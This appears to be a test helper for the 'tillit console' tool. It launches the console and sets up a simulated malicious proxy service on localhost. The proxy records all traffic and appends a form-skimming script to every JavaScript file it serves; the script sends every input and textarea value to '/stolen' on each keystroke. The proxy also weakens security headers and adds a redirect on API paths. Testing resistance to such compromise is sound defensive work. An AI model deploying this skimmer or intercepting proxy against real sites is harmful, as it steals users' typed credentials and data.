// `tillit console --connect` as a process, and a service in whose place somebody steals.
import { spawn } from "node:child_process";
import http from "node:http";

import { assets, free_port, program, until } from "./service.mjs";

/** Starts it; returns {address: "http://NAME.localhost:PORT", host, port, pid, log(), stop()}. */
export async function connect_console(url, { args = [], env = {} } = {}) {
  const child = spawn(program, ["console", "--connect", url, "--assets", assets, ...args], { env: { ...process.env, ...env } });
  let out = "";
  let err = "";
  let code = null;
  child.stdout.on("data", (d) => (out += d));
  child.stderr.on("data", (d) => (err += d));
  const ended = new Promise((done) => child.once("close", (status) => done((code = status ?? -1))));
  const kill = () => child.kill("SIGKILL");
  process.once("exit", kill);
  await until(() => code !== null || /Ctrl-C/.test(out), "the local console prints its address");
  if (code !== null) throw new Error(`tillit console ended with ${code}: ${err}`);
  const [, address] = /^ {2}(http:\/\/\S+)\/$/m.exec(out);
  const { host, port } = new URL(address);
  return {
    address, host, port: Number(port), pid: child.pid,
    log: () => out + err,
    async stop() {
      child.kill("SIGTERM");
      process.off("exit", kill);
      return ended;
    },
  };
}

/** Says exactly this to the local console; its name is for browsers, who know that it is this machine. */
export function ask(local, path, { method = "GET", headers = {}, body, host = local.host } = {}) {
  return new Promise((done, failed) => {
    const length = body === undefined ? (method === "GET" ? {} : { "content-length": 0 }) : { "content-length": body.length };
    const request = http.request({ host: "127.0.0.1", port: local.port, path, method, agent: false,
      headers: { host, ...length, ...headers } }, (reply) => {
      const chunks = [];
      reply.on("data", (d) => chunks.push(d));
      reply.once("error", failed);
      reply.once("end", () => done({ status: reply.statusCode, headers: reply.headers, body: Buffer.concat(chunks) }));
    });
    request.once("error", failed);
    request.end(body);
  });
}

/** What the thief adds to every script: each field, as soon as it holds something, goes to the thief. */
const stealing = `
;addEventListener("input", () => {
  const taken = [...document.querySelectorAll("input, textarea")].map((field) => field.value);
  fetch("/stolen", { method: "POST", body: JSON.stringify(taken) });
}, true);`;

const loosened = {
  "content-security-policy": "default-src * 'unsafe-inline' 'unsafe-eval'",
  "access-control-allow-origin": "*",
  "service-worker-allowed": "/",
  "link": "</assets/thief.js>; rel=preload; as=script",
  "sourcemap": "/stolen",
  "x-thief": "1",
};

/** A service that passes everything on to an honest one, keeps all it receives, and serves scripts that steal. */
export class Thief {
  static async before(url) {
    const thief = new Thief();
    thief.target = new URL(url);
    thief.received = []; // Buffers: heads and bodies, as they came
    thief.answers = new Map(); // path → function(request, reply) that answers in place of the service
    thief.server = http.createServer((request, reply) => thief.serve(request, reply));
    thief.port = await free_port();
    await new Promise((done) => thief.server.listen(thief.port, "127.0.0.1", done));
    thief.url = `http://localhost:${thief.port}`;
    return thief;
  }

  everything() {
    return Buffer.concat(this.received);
  }

  serve(request, reply) {
    const chunks = [];
    request.on("data", (d) => chunks.push(d));
    request.once("end", () => {
      const body = Buffer.concat(chunks);
      this.received.push(Buffer.from(`${request.method} ${request.url}\n${request.rawHeaders.join("\n")}\n\n`), body, Buffer.from("\n"));
      const own = this.answers.get(request.url.split("?")[0]);
      if (own) return own(request, reply);
      this.pass_on(request, body, reply);
    });
  }

  pass_on(request, body, reply) {
    const headers = { ...request.headers, host: this.target.host, "accept-encoding": "identity" };
    if (headers.origin) headers.origin = this.target.origin;
    const there = http.request({ host: "127.0.0.1", port: this.target.port, path: request.url, method: request.method, headers, agent: false }, (answer) => {
      const chunks = [];
      answer.on("data", (d) => chunks.push(d));
      answer.once("end", () => {
        let content = Buffer.concat(chunks);
        if (/javascript/.test(answer.headers["content-type"] ?? "")) content = Buffer.concat([content, Buffer.from(stealing)]);
        const out = { ...answer.headers, ...loosened };
        if (request.url.startsWith("/api/")) out.refresh = "0; url=/stolen";
        delete out["transfer-encoding"];
        delete out["connection"];
        if (answer.statusCode !== 204) out["content-length"] = content.length;
        reply.writeHead(answer.statusCode, out);
        reply.end(content);
      });
    });
    there.once("error", () => reply.destroy());
    there.end(body);
  }

  close() {
    this.server.closeAllConnections?.();
    return new Promise((done) => this.server.close(done));
  }
}
